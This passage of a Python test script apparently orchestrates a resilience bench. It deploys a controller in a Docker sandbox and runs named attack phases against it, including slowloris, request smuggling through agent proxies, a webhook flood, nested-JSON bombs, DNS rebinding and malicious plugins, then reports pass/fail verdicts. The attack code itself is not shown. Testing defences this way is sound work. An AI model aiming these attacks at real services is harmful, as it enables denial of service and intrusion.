        sb, image, "an agent dripping its answer a byte every 0.5 s", seconds,
        lambda: parse_attacker(
            sb, image, ["drip-agent", run], alias="evilagent", environment=agent
        ),
    )  # fmt: skip


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--name", default="attack")
    parser.add_argument("--local", action="store_true", help="a Controller on 127.0.0.1")
    parser.add_argument("--seconds", type=float, default=60.0)
    args = parser.parse_args()
    if args.local:
        from attack_local import main as local  # noqa: PLC0415 (bench/ is on sys.path)

        return local(args.seconds)
    spec = SandboxSpec(name=args.name, nodes=4, managers=3)
    with Sandbox.up(spec) as sb, tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        built = build_controller_image(sb.docker_host("node-1"))
        load_into([sb.docker_host(n) for n in sb.nodes[1:]], built)
        say(f"image {built.image_id[:19]}: {built.timings()}")
        make_certificate(work)
        deploy(sb, built.image_id, work)
        sb.create_service("victim", replicas=4, labels={"placement.managed": "true"})
        sb.create_service("bystander", replicas=4)
        wait(lambda: len(running(sb, f"{STACK}_agent")) == 4, 300, "an agent on every node")
        wait(lambda: len(running(sb, f"{STACK}_controller")) == 2, 300, "two controllers")
        sb.wait_services_running(["victim", "bystander"], timeout=120)
        wait(lambda: sum(cycles(sb).values()) > 0, 300, "a leader's first cycle")
        say("deployed; the attacks begin")
        say(RULES)
        image, seconds = built.image_id, args.seconds
        phase(sb, image, "no attack (the baseline)", seconds, lambda: _quiet(seconds))
        for mode, title in (
            ("silent", "2000 sockets that never start TLS from one address, per port"),
            ("slowloris", "a slowloris: 16 TLS connections per port dripping a request"),
            ("never-read", "16 clients per controller that never read their answers"),
        ):
            phase(
                sb, image, title, seconds,
                lambda mode=mode: attacker(sb, image, "node-4", [mode, str(seconds)]),
            )  # fmt: skip
        phase(
            sb, image, "the smuggled request through every agent's Docker proxy", 10,
            lambda: smuggle(sb, image),
        )  # fmt: skip
        nodes = ",".join(sb.nodes)
        phase(
            sb, image, "webhook flood rotating failed across nodes", seconds,
            lambda: attacker(sb, image, "node-4",
                             ["webhook", str(seconds), TOKENS["health"], nodes]),
        )  # fmt: skip
        phase(
            sb, image, "plugin answering JSON nested 100 000 deep", seconds,
            lambda: attacker(sb, image, "node-4", ["plugin", str(seconds)], alias="evilplugin"),
        )  # fmt: skip
        phase(
            sb, image, "DNS rebinding and no login", 10,
            lambda: attacker(sb, image, "node-4", ["rebinding", "10", TOKENS["ui"]]),
        )  # fmt: skip
        parse_phases(sb, image, seconds, work)
        say("verdicts:")
        for line in VERDICTS:
            say(f"  {line}")
    return 0 if all(line.startswith("PASS") for line in VERDICTS) else 1


if __name__ == "__main__":
    sys.exit(main())
